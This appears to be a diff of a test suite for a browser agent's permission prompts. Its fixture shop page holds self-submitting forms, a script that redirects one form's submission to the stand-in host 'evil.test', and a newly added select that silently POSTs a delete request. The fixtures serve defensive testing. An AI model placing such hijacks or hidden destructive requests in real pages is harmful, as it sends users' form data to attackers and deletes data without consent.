@@ -29,14 +29,16 @@ const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
 <label><input type="checkbox"> Gift</label></form>
 <form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
+<form method="post" action="/done"><label>Action <select><option>Keep them</option><option>Delete them</option></select></label><button>Go</button></form>
 <script>
   if (location.search === '?chatty') fetch('/api/usual', { method: 'POST' });
-  const [, , quick, , chosen, found] = document.forms;
+  const [, , quick, , chosen, found, bulk] = document.forms;
   quick.addEventListener('submit', () => Object.assign(quick, { method: 'post', action: 'http://evil.test/swapped' }));
   chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
   chosen.querySelector('input').addEventListener('input', () => chosen.submit());
   chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
   found.querySelector('select').addEventListener('change', () => found.requestSubmit());
+  bulk.querySelector('select').addEventListener('change', () => fetch('/api/' + 'gone', { method: 'POST' }));
 </script>`;
 
 beforeAll(async () => {
@@ -202,6 +204,14 @@ test.each([
   server.answer(step, say('Done.'));
   await askAndAnswer(allowed, 'Fill in the form', [true]);
   await expect.poll(() => arrived, { timeout: 5_000 }).toEqual(['POST shop.test/chosen']);
+});
+
+test('choosing what a button will do writes nothing before a person allows it', async () => {
+  const shown = await scene('More');
+  server.answer(on('Action', 'change', { text: 'Delete them' }), say('Done.'));
+  const [question] = await askAndAnswer(shown, 'Show me more', [false]);
+  expect(question, await shown.story()).toContain('POST http://shop.test/api/gone');
+  expect(arrived).toEqual([]);
 });
 
 test('a form that looks something up is sent by a choice', async () => {
